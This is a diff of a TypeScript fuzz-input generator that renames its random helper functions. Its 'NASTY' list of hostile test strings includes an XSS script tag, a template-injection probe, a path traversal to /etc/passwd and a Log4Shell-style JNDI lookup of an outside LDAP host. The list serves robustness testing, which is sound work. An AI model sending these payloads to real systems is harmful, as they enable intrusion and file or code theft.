@@ -18,6 +18,7 @@ export const NASTY = [
   '<script>alert(1)</script>',
   '{{7*7}}',
   '../../etc/passwd',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack uses this literal text
   '${jndi:ldap://example.in/a}',
   '9'.repeat(400),
   'a'.repeat(10_000),
@@ -42,18 +43,18 @@ const TEXTS = [
 ]
 
 /** Usually something sensible, often one of the things that are there, sometimes nonsense. */
-export function text(random: Random, known: readonly string[]) {
-  if (random.chance(0.4) && known.length > 0) return random.pick(known)
-  return random.chance(0.5) ? random.pick(TEXTS) : random.pick(NASTY)
+export function createText(random: Random, known: readonly string[]) {
+  if (random.nextBoolean(0.4) && known.length > 0) return random.pick(known)
+  return random.nextBoolean(0.5) ? random.pick(TEXTS) : random.pick(NASTY)
 }
 
-export function number(random: Random) {
-  return random.chance(0.5) ? random.integer(0, 30) : random.pick(NUMBERS)
+export function createNumber(random: Random) {
+  return random.nextBoolean(0.5) ? random.nextInteger(0, 30) : random.pick(NUMBERS)
 }
 
-export function day(random: Random) {
-  const ahead = random.integer(-30, 400)
-  return random.chance(0.8)
+export function createDay(random: Random) {
+  const ahead = random.nextInteger(-30, 400)
+  return random.nextBoolean(0.8)
     ? new Date(Date.now() + ahead * 86_400_000).toISOString().slice(0, 10)
     : random.pick(NASTY)
 }
